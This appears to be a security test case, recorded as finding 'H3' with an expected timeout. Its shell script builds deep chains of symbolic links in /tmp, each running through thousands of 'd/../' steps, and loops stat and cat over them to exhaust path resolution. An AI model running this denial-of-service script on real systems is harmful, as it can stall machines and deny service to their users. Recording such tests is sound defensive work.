#: attacks = links whose targets are thousands of steps, one leading to the next, in the session's tree
#: finding = H3
#: timeout = 1
#: status = 124
#: limit = timeout
cd /tmp; mkdir d; t=$(printf "%1300s" | sed 's# #d/../#g')
ln -s "${t:0:4000}" l0
for i in $(seq 39); do ln -s "${t:0:3990}l$((i - 1))" l$i; done
while :; do stat l39/x l38/x l37/x l20/x; cat l39/y; done > /dev/null 2>&1
